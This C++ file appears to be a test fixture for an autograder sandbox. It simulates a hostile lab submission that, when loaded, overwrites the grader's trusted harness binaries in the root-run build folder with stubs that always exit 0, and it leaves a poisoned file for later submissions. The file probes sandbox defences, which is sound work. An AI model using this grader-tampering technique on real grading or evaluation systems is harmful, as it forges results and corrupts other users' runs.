// Attack (issue 32): the lab's code, in the worker, tries to replace the grader's trusted
// programs in the build folder (which the grader runs as itself, root on Gradescope) and to
// leave a file there for the next submission. @BUILD@ is the grader's build folder.
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>

namespace {

void try_replace(const std::string& path) {
    // Replacing a program: unlink it (allowed where its folder is writable), then write anew.
    const bool unlinked = ::unlink(path.c_str()) == 0;
    const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd < 0) {
        std::printf("REPLACE: cannot write %s%s\n", path.c_str(), unlinked ? " (unlinked)" : "");
        return;
    }
    const char script[] = "#!/bin/sh\necho forged\nexit 0\n";
    if (::write(fd, script, sizeof script - 1) < 0) std::printf("REPLACE: short write\n");
    ::close(fd);
    std::printf("REPLACE: wrote %s\n", path.c_str());
}

const bool replaced = [] {
    const std::string build = "@BUILD@";
    for (const char* name :
         {"bin/lab00_harness_simt", "bin/lab01_harness_simt", "bin/lab00_listing_simt",
          "bin/lab01_listing_simt", "poisoned-by-a-submission"})
        try_replace(build + "/" + name);
    struct stat info {};
    std::printf("REPLACE: build folder %s\n",
                ::stat(build.c_str(), &info) == 0 ? "visible" : "not visible");
    std::fflush(stdout);
    return true;
}();

} // namespace
